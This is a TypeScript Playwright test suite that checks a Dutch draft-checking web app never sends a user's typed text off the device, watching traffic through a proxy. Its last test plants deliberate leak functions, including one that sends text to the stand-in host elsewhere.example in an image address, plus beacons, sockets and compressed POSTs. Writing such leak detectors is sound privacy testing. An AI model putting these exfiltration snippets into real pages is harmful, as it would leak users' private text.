import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import nl from '../src/messages/nl.json' with { type: 'json' }
import { browserPath, openBrowser, visit } from './browser.ts'
import { startHandvat, type Handvat } from './handvat.ts'
import { findTraces, openWiretap, type Wiretap } from './wiretap.ts'

/** A number from a seed, so that a failure can be seen again (mulberry32). */
function createRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

// Chromium itself asks its maker for updates at start; no page has a hand in that.
const ofTheBrowser =
  /^(update|redirector|accounts|content-autofill|clients\d?|android\.clients|optimizationguide-pa|safebrowsing)\.(googleapis|google|gvt1)\.com/

const common = (
  'vandaag met het team bij de brand aan de kade geweest wat een chaos zal wel weer een accu zijn ' +
  'today with our new client the launch is in may keep it quiet people dead they say surely arson'
).split(' ')
const endings = ['06-12345678.', 'NL91ABNA0417164300', 'BSN 249566758', '😀 #trots', 'שלום', '!!!']

/** A draft in which every four words hold a word that exists nowhere else. */
function writeDraft(random: () => number, number: number): string {
  const pick = <Item>(list: readonly Item[]) => list[Math.floor(random() * list.length)] as Item
  const syllable = () => pick([...'bdfgklmnprstvz']) + pick(['a', 'e', 'i', 'o', 'u', 'aa', 'ij'])
  const rare = () => `${syllable()}${syllable()}${syllable()}${syllable()}q${number}`
  const length = 8 + Math.floor(random() * 40)
  const words = Array.from({ length }, (_, index) => (index % 3 === 0 ? rare() : pick(common)))
  return `${words.join(' ')} ${pick(endings)}`
}

const random = createRandom(20261120)
const drafts = Array.from({ length: 50 }, (_, index) => writeDraft(random, index))

describe.skipIf(!browserPath)('the draft stays on the device', () => {
  let handvat: Handvat
  let wiretap: Wiretap
  let browser: Browser
  let window: BrowserContext
  let page: Page
  const frames: string[] = []

  beforeAll(async () => {
    handvat = await startHandvat('demo')
    const host = new URL(handvat.address).host
    wiretap = await openWiretap(host)
    browser = await openBrowser([
      '--disable-features=AutofillServerCommunication,OptimizationHints,MediaRouter',
      `--proxy-server=${wiretap.address}`,
      // Without this a browser goes past the proxy to its own machine.
      '--proxy-bypass-list=<-loopback>',
    ])
    window = await browser.newContext({ locale: 'nl-NL', permissions: ['clipboard-write'] })
    page = await window.newPage()
    // Frames of a socket are masked on the wire, so they are read from the browser itself.
    page.on('websocket', (socket) =>
      socket.on('framesent', ({ payload }) => frames.push(String(payload))),
    )
    await visit(page, handvat.wayIn('Fatima el Bakkali'))
    await page.getByRole('button', { name: nl['sign-in.title'] }).click()
    await page.getByRole('heading', { level: 1, name: /Fatima/ }).waitFor()
    await openCheck()
  })
  afterAll(async () => {
    await browser?.close()
    await wiretap?.close()
    await handvat?.stop()
  })

  async function openCheck(): Promise<void> {
    await visit(page, `${handvat.address}/check`)
    await page.getByText(nl['check.yes'], { exact: true }).click()
    await page.getByText(nl['check.empty']).waitFor()
  }

  /** Everything that left the browser: the bytes on the wire and the frames of sockets. */
  function everything(): Buffer {
    return Buffer.concat([wiretap.sent(), Buffer.from(frames.join('\n'))])
  }

  async function checkDraft(draft: string, index: number): Promise<void> {
    const field = page.getByLabel(nl['check.text'], { exact: true })
    if (index % 10 === 0) {
      await field.fill('')
      await field.pressSequentially(draft)
    } else await field.fill(draft)
    if (index % 3 === 0)
      await page
        .getByText(nl[`channel.${index % 2 ? 'private' : 'official'}`], { exact: true })
        .first()
        .click()
    if (index % 4 === 0) await page.getByText(nl['check.public'], { exact: true }).click()
    const aside = page.getByRole('button', { name: nl['check.not-applicable'] })
    if (index % 5 === 0 && (await aside.count()) > 0) await aside.first().click()
    if (index % 7 === 0) await page.getByRole('button', { name: nl['check.copy'] }).click()
  }

  test('fifty drafts are checked, and no four words of any of them leave the browser', async () => {
    // The wiretap hears: the page itself and the rules came through it.
    expect(everything().includes('/check/pack/nl HTTP')).toBe(true)
    let hinted = 0
    for (const [index, draft] of drafts.entries()) {
      await checkDraft(draft, index)
      hinted += (await page.locator('article').count()) > 0 ? 1 : 0
    }
    // The check did speak: this is not the silence of a page that does nothing.
    expect(hinted).toBeGreaterThan(10)
    await page.getByRole('button', { name: nl['check.nothing-sent'] }).click()
    await page.getByText(nl['check.nothing-sent.title']).waitFor()
    await page.keyboard.press('Escape')
    // Leaving the page is when a beacon would go.
    await page.goto(`${handvat.address}/code`, { waitUntil: 'networkidle' })
    await page.goto('about:blank')
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    const sent = everything()
    expect(drafts.flatMap((draft) => findTraces(sent, draft))).toEqual([])
    expect(frames).toEqual([])
    expect(wiretap.refused().filter((host) => !ofTheBrowser.test(host))).toEqual([])
    // One worker, our own: the wiretap hears it too, and what it keeps on the device holds no word of a draft.
    expect(window.serviceWorkers().map((worker) => new URL(worker.url()).pathname)).toEqual([
      '/service-worker.js',
    ])
    await page.goto(`${handvat.address}/card`)
    const kept = await page.evaluate(async () => {
      const texts: string[] = []
      for (const name of await caches.keys()) {
        const store = await caches.open(name)
        for (const request of await store.keys())
          texts.push(request.url, (await (await store.match(request))?.text()) ?? '')
      }
      return texts.join('\n')
    })
    expect(kept).toContain('/card')
    const rare = drafts.flatMap((draft) => draft.split(' ').filter((word) => /q\d+$/.test(word)))
    expect(rare.filter((word) => kept.includes(word))).toEqual([])
    const printed = handvat.printed()
    expect(rare.filter((word) => printed.includes(word))).toEqual([])
  })

  test('"tell the editor" sends the id of the rule and nothing else', async () => {
    await openCheck()
    wiretap.forget()
    await page.getByLabel(nl['check.text'], { exact: true }).fill(`${drafts[0]} NL91ABNA0417164300`)
    await page.getByRole('button', { name: nl['check.not-applicable'] }).first().click()
    await page.getByRole('button', { name: nl['check.tell'] }).click()
    await page.getByText(nl['check.told']).waitFor()
    const sent = wiretap.sent().toString('latin1')
    expect(sent).toMatch(/\r\n\r\n\{"rule":"[a-z-]+"\}/)
    // Named, so that a second one says what it was.
    expect(sent.match(/^POST \S+/gm)).toEqual([`POST ${handvat.address}/check/tell`])
    expect(drafts.flatMap((draft) => findTraces(everything(), draft))).toEqual([])
  })

  // Ways in which a page could leak; each must be found by the same search.
  const leaks: Record<string, (text: string) => void> = {
    'as the body of a request': (text) => void fetch('/code', { method: 'POST', body: text }),
    'in an address': (text) => void fetch(`/code?x=${encodeURIComponent(text)}`),
    'in a header': (text) =>
      void fetch('/code', { headers: { 'x-note': encodeURIComponent(text) } }),
    'as JSON in base64': (text) => {
      const bytes = new TextEncoder().encode(JSON.stringify({ text }))
      void fetch('/code', { method: 'POST', body: btoa(String.fromCharCode(...bytes)) })
    },
    'as a beacon': (text) => void navigator.sendBeacon('/code', text),
    'in a picture to another host': (text) => {
      new Image().src = `http://elsewhere.example/${encodeURIComponent(text)}`
    },
    'over a socket': (text) => {
      const socket = new WebSocket(`ws://${location.host}/code`)
      socket.addEventListener('open', () => socket.send(text))
      // The server speaks no sockets, so a leak would try the address too.
      void new WebSocket(`ws://${location.host}/code?${encodeURIComponent(text)}`)
    },
    compressed: (text) => {
      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))
      void new Response(stream).blob().then((body) => fetch('/code', { method: 'POST', body }))
    },
    'compressed without a header': (text) => {
      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'))
      void new Response(stream).blob().then((body) => fetch('/code', { method: 'POST', body }))
    },
  }

  test.each(Object.keys(leaks))('a leak put in on purpose is found: %s', async (name) => {
    // The page's own rules would stop the leak to another host; here the search itself is on trial.
    const open = await browser.newContext({ bypassCSP: true })
    await open.addCookies(await window.cookies())
    const leaky = await open.newPage()
    await leaky.goto(`${handvat.address}/check`, { waitUntil: 'networkidle' })
    wiretap.forget()
    const draft = drafts[7] as string
    await leaky.evaluate(`(${String(leaks[name])})(${JSON.stringify(draft)})`)
    await expect
      .poll(() => findTraces(everything(), draft).length, { timeout: 10_000 })
      .toBeGreaterThan(0)
    await open.close()
  })
})
